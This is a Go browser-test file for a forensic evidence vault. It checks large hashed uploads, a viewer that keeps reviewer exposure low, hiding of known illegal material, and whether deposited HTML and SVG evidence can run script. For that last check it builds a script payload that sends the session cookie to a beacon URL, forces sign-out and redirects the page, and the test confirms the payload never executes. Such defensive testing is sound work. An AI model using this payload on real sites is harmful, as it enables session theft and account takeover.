package web

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/custos-vault/custos/internal/testenv"
	"github.com/custos-vault/custos/vault"
)

// The browser tests of evidence: uploads, the reviewer-welfare viewer,
// known material, and evidence that tries to run script.

var inv = vault.Principal{Name: "inv", Role: vault.RoleInvestigator}

// photo is a JPEG of a colour gradient (w x h), different for each seed.
func photo(t *testing.T, w, h int, seed uint8) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.RGBA{uint8(x*255/w) ^ seed, uint8(y * 255 / h), uint8((x + y) % 256), 255})
		}
	}
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, img, &jpeg.Options{Quality: 90}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// openCase opens a case as inv (who becomes its member).
func (bv *browserVault) openCase(t *testing.T, id string) {
	t.Helper()
	if err := bv.v.OpenCase(context.Background(), inv, id, "Case "+id); err != nil {
		t.Fatal(err)
	}
}

// deposit deposits content as inv and returns the item's id.
func (bv *browserVault) deposit(t *testing.T, caseID, name string, content []byte) string {
	t.Helper()
	res, err := bv.v.Deposit(context.Background(), inv, vault.DepositRequest{Case: caseID, Name: name, Body: bytes.NewReader(content)})
	if err != nil {
		t.Fatal(err)
	}
	return res.ID
}

// accesses are the item.accessed events of item.
func (bv *browserVault) accesses(t *testing.T, item string) []vault.ItemAccessed {
	t.Helper()
	var out []vault.ItemAccessed
	for _, ev := range bv.events(t, vault.TypeItemAccessed) {
		if ev.Item != item {
			continue
		}
		var a vault.ItemAccessed
		if err := json.Unmarshal(ev.Data, &a); err != nil {
			t.Fatal(err)
		}
		out = append(out, a)
	}
	return out
}

// TestBrowserUploadLargeFile uploads a 200 MiB file through the upload
// page with its acquisition hash pasted as a sha256sum list: the page
// shows progress while it stays responsive, and the vault stores the
// file with that hash. A second upload with a wrong acquisition hash is
// refused and stores nothing.
func TestBrowserUploadLargeFile(t *testing.T) {
	if testing.Short() {
		t.Skip("uploads 200 MiB through a browser")
	}
	bv := newBrowserVault(t)
	ctx := bv.ctx
	bv.openCase(t, "UP-1")
	dir := t.TempDir()
	big := filepath.Join(dir, "seized-disk.img")
	f, err := os.Create(big)
	if err != nil {
		t.Fatal(err)
	}
	h := sha256.New()
	if _, err := io.CopyN(io.MultiWriter(f, h), rand.Reader, 200<<20); err != nil {
		t.Fatal(err)
	}
	f.Close()
	sum := hex.EncodeToString(h.Sum(nil))

	bv.signIn(t, ctx, "inv")
	run(t, ctx, chromedp.Navigate(bv.url+"/app/cases/UP-1/upload"),
		chromedp.SetUploadFiles(chromedp.ID("files"), []string{big}),
		chromedp.SendKeys(chromedp.ID("sums"), sum+"  seized-disk.img\n"))
	// While the upload runs, the page's own work leaves its main thread
	// free (a page that read or hashed the whole file at once would run
	// no timer until it ended) and its progress bar moves. Both are seen
	// from inside the page, by a timer's beats, not by how fast a
	// loaded machine lets the test's own calls through.
	value(t, ctx, chromedp.Evaluate[bool](`window.beats = {n: 0, mid: false}; window.beatTimer = setInterval(function () {
		var o = document.getElementById('overall');
		if (document.querySelectorAll('#uploads li.done, #uploads li.failed').length) return;
		window.beats.n++;
		if (o.value > 0 && o.value < o.max) window.beats.mid = true;
	}, 50); true`))
	run(t, ctx, chromedp.Click(chromedp.ID("start")))
	deadline := time.Now().Add(5 * time.Minute)
	for {
		done := value(t, ctx, chromedp.Evaluate[float64](`document.querySelectorAll('#uploads li.done, #uploads li.failed').length`))
		if done > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the upload did not finish in 5 minutes")
		}
		time.Sleep(50 * time.Millisecond)
	}
	beats := value(t, ctx, chromedp.Evaluate[map[string]any](`clearInterval(window.beatTimer), window.beats`))
	t.Logf("the page's timer ran %v times during the upload", beats["n"])
	if n, _ := beats["n"].(float64); n < 3 {
		t.Errorf("the page's timer ran %v times during the upload: its main thread was held", beats["n"])
	}
	if beats["mid"] != true {
		t.Error("the overall progress bar never showed a part done")
	}
	testenv.Screenshot(t, ctx, "upload-done")
	if got := text(t, ctx, "#uploads li"); !strings.Contains(got, "stored") || !strings.Contains(got, sum) {
		t.Fatalf("the upload's line says %q", got)
	}
	items, err := bv.v.Items(context.Background(), inv, "UP-1", vault.ItemFilter{})
	if err != nil {
		t.Fatal(err)
	}
	if len(items) != 1 || items[0].SHA256 != sum || items[0].Size != 200<<20 || items[0].Name != "seized-disk.img" {
		t.Fatalf("the case holds %+v", items)
	}

	// The same file again with a wrong acquisition hash: refused, and
	// nothing is kept.
	wrong := strings.Repeat("0", 64)
	run(t, ctx, chromedp.Navigate(bv.url+"/app/cases/UP-1/upload"),
		chromedp.SetUploadFiles(chromedp.ID("files"), []string{big}),
		chromedp.SendKeys(chromedp.ID("sums"), wrong+"  seized-disk.img\n"))
	bv.expectRefused(bv.url + "/app/cases/UP-1/items?name=seized-disk.img&expect_sha256=" + wrong)
	run(t, ctx, chromedp.Click(chromedp.ID("start")), chromedp.WaitVisible(chromedp.CSS("#uploads li.failed")))
	if got := text(t, ctx, "#uploads li.failed"); !strings.Contains(got, "not stored") {
		t.Fatalf("the refused upload's line says %q", got)
	}
	testenv.Screenshot(t, ctx, "upload-refused")
	if items, _ := bv.v.Items(context.Background(), inv, "UP-1", vault.ItemFilter{}); len(items) != 1 {
		t.Fatalf("after a refused upload the case holds %d items", len(items))
	}
}

// TestBrowserUploadHashListErrors: a malformed line of the pasted list
// stops the upload before anything is sent.
func TestBrowserUploadHashListErrors(t *testing.T) {
	bv := newBrowserVault(t)
	ctx := bv.ctx
	bv.openCase(t, "UP-2")
	file := filepath.Join(t.TempDir(), "a.txt")
	os.WriteFile(file, []byte("a"), 0o600)
	bv.signIn(t, ctx, "inv")
	run(t, ctx, chromedp.Navigate(bv.url+"/app/cases/UP-2/upload"),
		chromedp.SetUploadFiles(chromedp.ID("files"), []string{file}),
		chromedp.SendKeys(chromedp.ID("sums"), "not a hash  a.txt\n"),
		chromedp.Click(chromedp.ID("start")),
		chromedp.WaitVisible(chromedp.ID("overall-text")))
	if got := text(t, ctx, "#overall-text"); !strings.Contains(got, "Line 1") {
		t.Fatalf("the page says %q", got)
	}
	if items, _ := bv.v.Items(context.Background(), inv, "UP-2", vault.ItemFilter{}); len(items) != 0 {
		t.Fatalf("a malformed hash list still uploaded %d items", len(items))
	}
}

// TestBrowserViewerWelfare: an image is not shown until its viewer asks
// with a purpose; the access event, with that purpose, is in the custody
// log before the first byte of the image leaves the vault; the image
// opens greyscale and blurred, and sharpens only when asked; the day's
// exposure count follows.
func TestBrowserViewerWelfare(t *testing.T) {
	bv := newBrowserVault(t)
	ctx := bv.ctx
	bv.openCase(t, "VW-1")
	item := bv.deposit(t, "VW-1", "DCIM/IMG_0001.JPG", photo(t, 320, 240, 1))

	var eventBeforeBytes, bytesSent atomic.Int32
	bv.onRevealBytes(func(r *http.Request) {
		bytesSent.Add(1)
		if len(bv.accesses(t, item)) == 1 {
			eventBeforeBytes.Add(1)
		}
	})

	bv.signIn(t, ctx, "inv")
	run(t, ctx, chromedp.Navigate(bv.url+"/app/items/"+item))
	testenv.Screenshot(t, ctx, "item-hidden")
	if n := value(t, ctx, chromedp.Evaluate[int](`document.querySelectorAll('#stage img, #stage video').length`)); n != 0 {
		t.Fatal("the item page shows the image before anyone asked")
	}
	if n := len(bv.accesses(t, item)); n != 0 {
		t.Fatalf("opening the item page recorded %d accesses", n)
	}
	if got := text(t, ctx, "#exposure-today"); got != "0" {
		t.Fatalf("exposure today before viewing: %q", got)
	}
	// The form does not go without a purpose (required field).
	run(t, ctx, chromedp.Click(chromedp.CSS("#reveal button[type=submit]")))
	time.Sleep(300 * time.Millisecond)
	if bytesSent.Load() != 0 || len(bv.accesses(t, item)) != 0 {
		t.Fatal("the image was revealed without a purpose")
	}
	run(t, ctx, chromedp.SendKeys(chromedp.ID("purpose"), "classification of report R-7"),
		chromedp.Click(chromedp.CSS("#reveal button[type=submit]")),
		chromedp.WaitVisible(chromedp.ID("evidence")))
	// The image has loaded (decoded from the Blob), greyscale and blurred.
	value(t, ctx, chromedp.Poll[bool](`document.getElementById('evidence').complete && document.getElementById('evidence').naturalWidth === 320`))
	filter := value(t, ctx, chromedp.Evaluate[string](`getComputedStyle(document.getElementById('evidence')).filter`))
	if !strings.Contains(filter, "grayscale(1)") || !strings.Contains(filter, "blur(") {
		t.Fatalf("the image opened with filter %q, not greyscale and blurred", filter)
	}
	src := value(t, ctx, chromedp.Evaluate[string](`document.getElementById('evidence').src`))
	if !strings.HasPrefix(src, "blob:") {
		t.Fatalf("the image's source is %q, not an in-memory Blob", src)
	}
	testenv.Screenshot(t, ctx, "item-revealed-protected")
	acc := bv.accesses(t, item)
	if len(acc) != 1 || acc[0].Purpose != "classification of report R-7" || acc[0].Access != vault.AccessShown {
		t.Fatalf("accesses recorded: %+v", acc)
	}
	if bytesSent.Load() != 1 || eventBeforeBytes.Load() != 1 {
		t.Fatalf("reveal answers %d, of which %d had the access event in the log before their first byte", bytesSent.Load(), eventBeforeBytes.Load())
	}
	if got := text(t, ctx, "#exposure-today"); got != "1" {
		t.Fatalf("exposure today after one view: %q", got)
	}
	run(t, ctx, chromedp.Click(chromedp.ID("sharpen")))
	filter = value(t, ctx, chromedp.Evaluate[string](`getComputedStyle(document.getElementById('evidence')).filter`))
	if strings.Contains(filter, "blur(") || !strings.Contains(filter, "grayscale(1)") {
		t.Fatalf("sharpened, the image has filter %q (want greyscale, not blurred)", filter)
	}
	run(t, ctx, chromedp.Click(chromedp.ID("colour")))
	if filter = value(t, ctx, chromedp.Evaluate[string](`getComputedStyle(document.getElementById('evidence')).filter`)); filter != "none" {
		t.Fatalf("in colour, the image has filter %q", filter)
	}
	testenv.Screenshot(t, ctx, "item-revealed-sharp")
	run(t, ctx, chromedp.Click(chromedp.ID("close-view")))
	if n := value(t, ctx, chromedp.Evaluate[int](`document.querySelectorAll('#stage img').length`)); n != 0 {
		t.Fatal("hidden again, the image is still on the page")
	}
}

// TestBrowserVideoStartsMuted: a video never plays by itself and starts
// muted.
func TestBrowserVideoStartsMuted(t *testing.T) {
	bv := newBrowserVault(t)
	ctx := bv.ctx
	bv.openCase(t, "VD-1")
	state := bv.revealVideo(t, ctx, "VD-1")
	if state["tag"] != "VIDEO" || state["muted"] != true || state["paused"] != true || state["autoplay"] != false || state["controls"] != true {
		t.Fatalf("the video element is %v", state)
	}
	testenv.Screenshot(t, ctx, "video")
	// The test's video plays in no browser: the page says so and offers
	// no file of what was sent to be shown; its button now downloads a
	// copy, recorded as one (the first access was recorded as shown).
	run(t, ctx, chromedp.WaitVisible(`//p[@id="view-status"][contains(., "cannot be played")]`))
	if n := value(t, ctx, chromedp.Evaluate[int](`document.querySelectorAll('#view-status a').length`)); n != 0 {
		t.Fatalf("the page offers %d links to save what was sent to be shown", n)
	}
	if b := text(t, ctx, "#reveal button[type=submit]"); b != "Download" {
		t.Fatalf("the form's button after an unplayable video: %q", b)
	}
	run(t, ctx, chromedp.Click(chromedp.CSS("#reveal button[type=submit]")))
	var access []string
	for deadline := time.Now().Add(20 * time.Second); len(access) < 2 && time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		access = access[:0]
		for _, ev := range bv.events(t, vault.TypeItemAccessed) {
			var a vault.ItemAccessed
			if err := json.Unmarshal(ev.Data, &a); err != nil {
				t.Fatal(err)
			}
			access = append(access, a.Access)
		}
	}
	if len(access) != 2 || access[0] != vault.AccessShown || access[1] != vault.AccessCopy {
		t.Fatalf("the accesses recorded: %q, want shown then copy", access)
	}
}

// revealVideo deposits a small MP4 into caseID as inv, signs inv in,
// reveals it in the viewer, and returns what the video element says of
// itself: tag, muted, paused, autoplay, controls, pip (picture-in-picture
// disabled) and nodownload (the controls' download disabled).
func (bv *browserVault) revealVideo(t *testing.T, ctx context.Context, caseID string) map[string]any {
	t.Helper()
	box := func(typ string, body []byte) []byte {
		b := make([]byte, 8, 8+len(body))
		b[0], b[1], b[2], b[3] = byte((8+len(body))>>24), byte((8+len(body))>>16), byte((8+len(body))>>8), byte(8+len(body))
		copy(b[4:], typ)
		return append(b, body...)
	}
	mp4 := append(box("ftyp", []byte("isom\x00\x00\x02\x00isom")), box("mdat", bytes.Repeat([]byte{1}, 4096))...)
	item := bv.deposit(t, caseID, "stream.mp4", mp4)
	bv.signIn(t, ctx, "inv")
	run(t, ctx, chromedp.Navigate(bv.url+"/app/items/"+item),
		chromedp.SendKeys(chromedp.ID("purpose"), "review"),
		chromedp.Click(chromedp.CSS("#reveal button[type=submit]")),
		chromedp.WaitReady(chromedp.ID("evidence")))
	return value(t, ctx, chromedp.Evaluate[map[string]any](`(() => { const v = document.getElementById('evidence');
		return {tag: v.tagName, muted: v.muted, paused: v.paused, autoplay: v.autoplay, controls: v.controls,
			pip: v.disablePictureInPicture === true, nodownload: !!(v.controlsList && v.controlsList.contains('nodownload'))}; })()`))
}

// TestBrowserKnownMaterialHidden: an item identical to one classified as
// illegal is not in the triage queue, its page says why it stays hidden,
// a reveal without the override is refused (and recorded), and one with
// it records the override.
func TestBrowserKnownMaterialHidden(t *testing.T) {
	bv := newBrowserVault(t)
	ctx := bv.ctx
	bv.openCase(t, "KN-1")
	img := photo(t, 320, 240, 2)
	first := bv.deposit(t, "KN-1", "first.jpg", img)
	cust := vault.Principal{Name: "cust", Role: vault.RoleCustodian}
	if _, err := bv.v.SetClassificationPolicy(context.Background(), cust, "KN-1", 1, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := bv.v.Classify(context.Background(), inv, first, vault.ClassifyRequest{Category: vault.CategoryBaseline}); err != nil {
		t.Fatal(err)
	}
	again := bv.deposit(t, "KN-1", "again.jpg", img)
	bv.deposit(t, "KN-1", "other.jpg", photo(t, 320, 240, 3))

	bv.signIn(t, ctx, "inv")
	run(t, ctx, chromedp.Navigate(bv.url+"/app/triage"))
	queue := text(t, ctx, "#main")
	if strings.Contains(queue, "again.jpg") || !strings.Contains(queue, "other.jpg") {
		t.Fatalf("the triage queue shows: %s", queue)
	}
	testenv.Screenshot(t, ctx, "triage")
	run(t, ctx, chromedp.Navigate(bv.url+"/app/items/"+again))
	if w := text(t, ctx, "#reveal ~ p.warning, section .warning"); !strings.Contains(w, "known material") {
		t.Fatalf("the known item's page warns: %q", w)
	}
	testenv.Screenshot(t, ctx, "known-item")
	bv.expectRefused(bv.url + "/app/items/" + again + "/reveal")
	run(t, ctx, chromedp.SendKeys(chromedp.ID("purpose"), "check"),
		chromedp.Click(chromedp.CSS("#reveal button[type=submit]")))
	value(t, ctx, chromedp.Poll[bool](`document.getElementById('view-status').textContent.includes('known material')`))
	// Told how to ask on this page, not with a command.
	if st := text(t, ctx, "#view-status"); !strings.Contains(st, "tick “I need to see this known material”") || strings.Contains(st, "custos get") {
		t.Fatalf("the refused view says: %q", st)
	}
	if n := value(t, ctx, chromedp.Evaluate[int](`document.querySelectorAll('#stage img').length`)); n != 0 {
		t.Fatal("known material was shown without the override")
	}
	if len(bv.accesses(t, again)) != 0 {
		t.Fatal("a refused reveal was recorded as an access")
	}
	run(t, ctx, chromedp.Click(chromedp.ID("reveal_known")),
		chromedp.Click(chromedp.CSS("#reveal button[type=submit]")),
		chromedp.WaitVisible(chromedp.ID("evidence")))
	acc := bv.accesses(t, again)
	if len(acc) != 1 || !strings.Contains(acc[0].Override, "identical") {
		t.Fatalf("the override reveal recorded %+v", acc)
	}
	var refusedKnown bool
	for _, r := range bv.refusals(t) {
		if r.Target == again && strings.Contains(r.Reason, "known material") {
			refusedKnown = true
		}
	}
	if !refusedKnown {
		t.Fatalf("the refused reveal of known material is not in the log: %v", bv.refusals(t))
	}
}

// TestBrowserEvidenceCannotRunScript: a deposited HTML page and an SVG
// image, each with script that would call home, change the page and
// sign the viewer out, are revealed through the viewer, and through a
// plain form post (as without the page's script): they are downloaded,
// never shown; no script of theirs runs.
func TestBrowserEvidenceCannotRunScript(t *testing.T) {
	bv := newBrowserVault(t)
	ctx := bv.ctx
	bv.openCase(t, "JS-1")
	var mu sync.Mutex
	var calls []string
	home := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		calls = append(calls, r.URL.String())
		mu.Unlock()
	}))
	defer home.Close()
	payload := fmt.Sprintf(`document.title = 'pwned'; new Image().src = '%s/beacon?c=' + document.cookie;
		fetch('/app/sign-out', {method: 'POST'}); top.location = '%s/navigated';`, home.URL, home.URL)
	content := map[string][]byte{}
	html := bv.deposit(t, "JS-1", "page.html", []byte("<!doctype html><html><body><h1>x</h1><script>"+payload+"</script></body></html>"))
	content[html] = []byte("<!doctype html><html><body><h1>x</h1><script>" + payload + "</script></body></html>")
	svgBody := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>` + payload + `</script><rect width="10" height="10"/></svg>`)
	svg := bv.deposit(t, "JS-1", "drawing.svg", svgBody)
	content[svg] = svgBody
	bv.signIn(t, ctx, "inv")
	cookie := bv.sessionCookie(t, ctx)
	for _, item := range []string{html, svg} {
		run(t, ctx, chromedp.Navigate(bv.url+"/app/items/"+item))
		if show := value(t, ctx, chromedp.AttributeValue(chromedp.ID("reveal"), "data-show")); show.Value != "" {
			t.Fatalf("the viewer would show %s as %q", item, show.Value)
		}
		emptyDownloads(t, bv)
		run(t, ctx, chromedp.SendKeys(chromedp.ID("purpose"), "check"),
			chromedp.Click(chromedp.CSS("#reveal button[type=submit]")))
		if got := waitDownload(t, bv); !bytes.Equal(got, content[item]) {
			t.Fatalf("the viewer's download of %s holds %q", item, got)
		}
		// Without the page's script: the form posted as it is.
		emptyDownloads(t, bv)
		value(t, ctx, chromedp.Evaluate[any](`HTMLFormElement.prototype.submit.call(document.getElementById('reveal')), 1`))
		if got := waitDownload(t, bv); !bytes.Equal(got, content[item]) {
			t.Fatalf("the form's download of %s holds %q", item, got)
		}
		time.Sleep(500 * time.Millisecond)
		if title := value(t, ctx, chromedp.Title()); title == "pwned" {
			t.Fatal("the evidence's script changed the page")
		}
		if u := location(t, ctx); u.Path != "/app/items/"+item {
			t.Fatalf("the browser shows %s after the reveal", u)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(calls) != 0 {
		t.Fatalf("the evidence's script ran: it called %v", calls)
	}
	if len(bv.events(t, vault.TypeSessionEnded)) != 0 {
		t.Fatal("the evidence's script signed the viewer out")
	}
	if c := bv.sessionCookie(t, ctx); c == nil || c.Value != cookie.Value {
		t.Fatal("the session cookie changed")
	}
	if n := len(bv.accesses(t, html)) + len(bv.accesses(t, svg)); n != 4 {
		t.Fatalf("four reveals recorded %d accesses", n)
	}
}

func downloads(t *testing.T, bv *browserVault) int {
	t.Helper()
	es, _ := os.ReadDir(bv.browser.DownloadDir)
	n := 0
	for _, e := range es {
		if !strings.HasSuffix(e.Name(), ".crdownload") {
			n++
		}
	}
	return n
}

// partialDownloads reports whether a download is still being written.
func partialDownloads(bv *browserVault) bool {
	es, _ := os.ReadDir(bv.browser.DownloadDir)
	for _, e := range es {
		if strings.HasSuffix(e.Name(), ".crdownload") {
			return true
		}
	}
	return false
}

// emptyDownloads removes what the browser downloaded so far.
func emptyDownloads(t *testing.T, bv *browserVault) {
	t.Helper()
	es, _ := os.ReadDir(bv.browser.DownloadDir)
	for _, e := range es {
		os.Remove(filepath.Join(bv.browser.DownloadDir, e.Name()))
	}
}

// waitDownload waits until the download folder holds a finished file,
// and returns its content.
func waitDownload(t *testing.T, bv *browserVault) []byte {
	t.Helper()
	deadline := time.Now().Add(stepTimeout)
	// Chromium may reserve the final name (an empty file) before the
	// bytes arrive, in NAME.crdownload or in place: done is a final file
	// with bytes and no partial one (or the deadline, with what there is).
	for {
		var got []byte
		if downloads(t, bv) > 0 && !partialDownloads(bv) {
			es, _ := os.ReadDir(bv.browser.DownloadDir)
			for _, e := range es {
				if !strings.HasSuffix(e.Name(), ".crdownload") {
					b, err := os.ReadFile(filepath.Join(bv.browser.DownloadDir, e.Name()))
					if err != nil {
						t.Fatal(err)
					}
					got = b
					break
				}
			}
			if len(got) > 0 {
				return got
			}
		}
		if time.Now().After(deadline) {
			if got == nil {
				t.Fatal("the reveal downloaded nothing")
			}
			return got
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// onRevealBytes has f called when the vault is about to send the first
// byte (or the status) of an answer to a reveal, before it goes.
func (bv *browserVault) onRevealBytes(f func(r *http.Request)) {
	bv.revealTap.Store(&f)
}

// tapped wraps the vault's handler so that onRevealBytes sees each
// reveal's first write.
func (bv *browserVault) tapped(h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if f := bv.revealTap.Load(); f != nil && r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/reveal") {
			w = &firstWrite{ResponseWriter: w, f: func() { (*f)(r) }}
		}
		h.ServeHTTP(w, r)
	})
}

type firstWrite struct {
	http.ResponseWriter
	f    func()
	once sync.Once
}

func (fw *firstWrite) WriteHeader(code int) {
	fw.once.Do(fw.f)
	fw.ResponseWriter.WriteHeader(code)
}

func (fw *firstWrite) Write(b []byte) (int, error) {
	fw.once.Do(fw.f)
	return fw.ResponseWriter.Write(b)
}

func (fw *firstWrite) Unwrap() http.ResponseWriter { return fw.ResponseWriter }
